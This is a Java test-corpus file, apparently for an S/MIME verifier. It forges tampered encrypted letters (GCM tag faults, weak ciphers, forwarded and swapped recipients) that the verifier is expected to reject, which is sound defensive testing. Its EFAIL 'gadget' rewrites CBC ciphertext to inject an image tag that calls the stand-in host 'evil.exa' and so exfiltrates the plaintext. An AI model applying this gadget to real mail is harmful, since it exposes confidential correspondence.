package org.passerelle.specs.corpus;

import static org.passerelle.specs.corpus.Case.refused;
import static org.passerelle.specs.corpus.SignedForge.ascii;

import java.io.ByteArrayOutputStream;
import java.security.SecureRandom;
import java.security.cert.X509Certificate;
import java.util.Arrays;
import java.util.List;
import org.bouncycastle.asn1.cms.GCMParameters;
import org.bouncycastle.asn1.nist.NISTObjectIdentifiers;
import org.bouncycastle.asn1.pkcs.PKCSObjectIdentifiers;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.passerelle.port.trust.Check;
import org.passerelle.specs.corpus.Case.Setting;

/** What can be done to an envelope without its key, and whom it can be turned to by those who may open it. */
final class EnvelopeFaults {
    private static final int BLOCK = 16;
    private static final String TAG = "seal.tag";

    private final Mails mails;
    private final SecureRandom random;
    private final X509Certificate hospital;
    private final X509Certificate other;

    EnvelopeFaults(Mails mails) {
        this.mails = mails;
        random = mails.people().random;
        hospital = mails.people().hospital.certificate();
        other = mails.people().otherKey.certificate();
    }

    List<Case> all() {
        byte[] entity = SignedForge.entity(mails.signed().cms());
        List<Case> all = new java.util.ArrayList<>(gcm(mails.envelope(entity)));
        all.addAll(cbc(entity));
        all.addAll(recipients(entity));
        return all;
    }

    private List<Case> gcm(EnvelopeForge good) {
        byte[] content = good.encrypted();
        return List.of(
                tag(
                        "gcm-truncated",
                        "The last block of the encrypted content is cut off.",
                        good.encrypted(Arrays.copyOf(content, content.length - BLOCK))),
                tag(
                        "gcm-last-octet",
                        "The last octet of the encrypted content is changed: a reader that gives out what it"
                                + " decrypts before it has the tag shows nearly all of it.",
                        good.encrypted(flipped(content, content.length - 1))),
                tag(
                        "gcm-bit-flip",
                        "One bit in the middle of the encrypted content is changed.",
                        good.encrypted(flipped(content, content.length / 2))),
                tag(
                        "gcm-short-tag",
                        "The tag is cut to 12 octets, as RFC 5084 allows it to be and its default is; each octet"
                                + " less makes forging 256 times easier.",
                        good.tag(Arrays.copyOf(good.tag(), 12))),
                tag("gcm-long-tag", "An octet follows the tag.", good.tag(Arrays.copyOf(good.tag(), 17))),
                refused(
                        "gcm-short-tag-announced",
                        "seal.algorithm",
                        "The parameters announce a tag of 12 octets, RFC 5084's default.",
                        good.cipher(new AlgorithmIdentifier(
                                        NISTObjectIdentifiers.id_aes256_GCM, new GCMParameters(good.nonce(), 12)))
                                .tag(Arrays.copyOf(good.tag(), 12))
                                .mail(Mails.headers())),
                refused(
                        "gcm-without-tag",
                        "seal.malformed",
                        "GCM in an EnvelopedData, which has no place for a tag: the same content without any proof.",
                        good.tag(new byte[0]).mail(Mails.headers().replace("authEnveloped-data", "enveloped-data"))),
                tag(
                        "gcm-other-nonce",
                        "Another nonce.",
                        good.cipher(new AlgorithmIdentifier(
                                NISTObjectIdentifiers.id_aes256_GCM,
                                new GCMParameters(flipped(good.nonce(), 0), 16)))));
    }

    private List<Case> cbc(byte[] entity) {
        EnvelopeForge good = EnvelopeForge.cbc(random, entity, hospital);
        Setting lenient = Setting.HOSPITAL.without(Check.TAG, Check.REVOCATION);
        return List.of(
                        cbcCase(
                                "cbc-without-signature",
                                "seal.stripped-signature",
                                "AES-CBC around nothing signed: whoever changes it is not seen. From EFAIL (USENIX Security 2018).",
                                EnvelopeForge.cbc(random, Mails.payload(People.PRACTICE), hospital)),
                        cbcCase(
                                "cbc-block-gadget",
                                "seal.malformed",
                                "From EFAIL: the known first block \"Content-Type: ap\" is used to write other plaintext before the"
                                        + " rest of the letter, without the key.",
                                good.cipher(vector(good, "Content-Type: te")).encrypted(gadget(good))),
                        cbcCase(
                                "cbc-content-type-rewritten",
                                "seal.stripped-signature",
                                "From EFAIL: the vector is changed so that the first block reads \"Content-Type: xp\", and the"
                                        + " rest stays whole.",
                                good.cipher(vector(good, "Content-Type: xp"))),
                        cbcCase(
                                "cbc-blocks-swapped",
                                "seal.malformed",
                                "Two blocks of the signed data change places.",
                                good.encrypted(swapped(good.encrypted()))),
                        cbcCase(
                                "cbc-truncated",
                                "seal.malformed",
                                "The last block is cut off: the padding cannot be taken off.",
                                good.encrypted(Arrays.copyOf(good.encrypted(), good.encrypted().length - BLOCK))),
                        refused(
                                        "cbc-from-who-always-had-a-tag",
                                        "seal.absent",
                                        "A good letter in AES-CBC from a correspondent who may not leave the tag out.",
                                        good.mail(compatible()))
                                .showing(CertificateFaults.PRACTICE_SIGNED),
                        cbcCase(
                                "triple-des",
                                "seal.triple-des",
                                "Triple DES, whose blocks are too short for what one key encrypts (Sweet32).",
                                EnvelopeForge.cbc(
                                        random, PKCSObjectIdentifiers.des_EDE3_CBC, "DESede", 24, 8, entity, hospital)),
                        cbcCase(
                                "rc2",
                                "seal.rc2",
                                "RC2, what S/MIME 2 fell back to.",
                                EnvelopeForge.cbc(
                                        random, PKCSObjectIdentifiers.RC2_CBC, "RC2", 16, 8, entity, hospital)))
                .stream()
                .map(each -> each.name().equals("cbc-from-who-always-had-a-tag") ? each : each.in(lenient))
                .toList();
    }

    private List<Case> recipients(byte[] entity) {
        EnvelopeForge both = EnvelopeForge.gcm(random, entity, hospital, other);
        EnvelopeForge ours = mails.envelope(entity);
        SignedForge forOther = mails.signed().to(List.of(new SignedForge.To(People.OTHER, other)));
        SignedForge forAnotherKey = mails.signed()
                .to(List.of(new SignedForge.To(
                        People.HOSPITAL, mails.people().hospitalEc.certificate())));
        return List.of(
                refused(
                                "forwarded-to-another",
                                "seal.not-addressed",
                                "Surreptitious forwarding (Davis, USENIX 2001): the hospital decrypts the letter and encrypts it,"
                                        + " signature and all, to another practice, who would think it was written to it.",
                                EnvelopeForge.gcm(random, entity, other).mail(Mails.headers()))
                        .in(Setting.HOSPITAL.openedBy("other"))
                        .showing(People.PRACTICE.value()),
                refused(
                                "signed-for-another",
                                "seal.not-addressed",
                                "The letter was signed for another practice, which encrypted it to the hospital.",
                                mails.sealed(forOther.cms()))
                        .showing(People.PRACTICE.value()),
                refused(
                                "signed-for-another-key",
                                "seal.not-addressed",
                                "Signed for the hospital, but for another of its certificates than the one that opens it.",
                                mails.sealed(forAnotherKey.cms()))
                        .showing(People.PRACTICE.value()),
                refused(
                                "extra-recipient",
                                "seal.extra-recipient",
                                "A RecipientInfo for somebody the letter was not signed for: somebody on the way can read along.",
                                both.mail(Mails.headers()))
                        .showing(People.PRACTICE.value()),
                refused(
                        "swapped-recipients",
                        TAG,
                        "The encrypted keys of two RecipientInfos change places. Under PKCS#1 v1.5 a key that does not fit is"
                                + " told from a wrong one by nobody (RFC 3218 §2.3.2).",
                        both.recipients(List.of(swapped(both, 0, 1), swapped(both, 1, 0)))
                                .mail(Mails.headers())),
                refused(
                        "recipient-twice",
                        "seal.malformed",
                        "Two RecipientInfos name one certificate: each would cost a private-key operation.",
                        ours.recipients(List.of(
                                        ours.recipients().get(0), EnvelopeForge.recipient(ours.key(), hospital)))
                                .mail(Mails.headers())),
                refused(
                        "not-for-us",
                        "seal.not-for-us",
                        "No RecipientInfo names a certificate of ours.",
                        EnvelopeForge.gcm(random, entity, other).mail(Mails.headers())));
    }

    private static org.bouncycastle.asn1.cms.KeyTransRecipientInfo swapped(EnvelopeForge both, int name, int key) {
        var named = both.recipients().get(name);
        return new org.bouncycastle.asn1.cms.KeyTransRecipientInfo(
                named.getRecipientIdentifier(),
                named.getKeyEncryptionAlgorithm(),
                both.recipients().get(key).getEncryptedKey());
    }

    private static Case tag(String name, String why, EnvelopeForge forged) {
        return refused(name, TAG, why, forged.mail(Mails.headers()));
    }

    private static Case cbcCase(String name, String outcome, String why, EnvelopeForge forged) {
        return refused(name, outcome, why, forged.mail(compatible()));
    }

    static String compatible() {
        return Mails.headers().replace("authEnveloped-data", "enveloped-data");
    }

    /** The parameters under which the first block, which is known, reads as that. */
    private static AlgorithmIdentifier vector(EnvelopeForge good, String wanted) {
        byte[] vector = xor(xor(good.nonce(), ascii("Content-Type: ap")), ascii(wanted));
        return new AlgorithmIdentifier(
                NISTObjectIdentifiers.id_aes256_CBC, new org.bouncycastle.asn1.DEROctetString(vector));
    }

    /** The first block, again and again behind vectors that make it read as chosen, then the rest. */
    private static byte[] gadget(EnvelopeForge good) {
        byte[] first = Arrays.copyOf(good.encrypted(), BLOCK);
        byte[] decrypted = xor(good.nonce(), ascii("Content-Type: ap"));
        var out = new ByteArrayOutputStream();
        out.writeBytes(first);
        for (String chosen : List.of("xt/html\r\n\r\n<img ", "src=\"//evil.exa/")) {
            out.writeBytes(xor(decrypted, ascii(chosen)));
            out.writeBytes(first);
        }
        out.write(good.encrypted(), BLOCK, good.encrypted().length - BLOCK);
        return out.toByteArray();
    }

    private static byte[] swapped(byte[] content) {
        byte[] swapped = content.clone();
        int at = content.length / BLOCK / 2 * BLOCK;
        System.arraycopy(content, at, swapped, at + BLOCK, BLOCK);
        System.arraycopy(content, at + BLOCK, swapped, at, BLOCK);
        return swapped;
    }

    private static byte[] xor(byte[] one, byte[] other) {
        byte[] both = one.clone();
        for (int i = 0; i < both.length; i++) {
            both[i] ^= other[i];
        }
        return both;
    }

    private static byte[] flipped(byte[] octets, int at) {
        byte[] flipped = octets.clone();
        flipped[at] ^= 1;
        return flipped;
    }
}
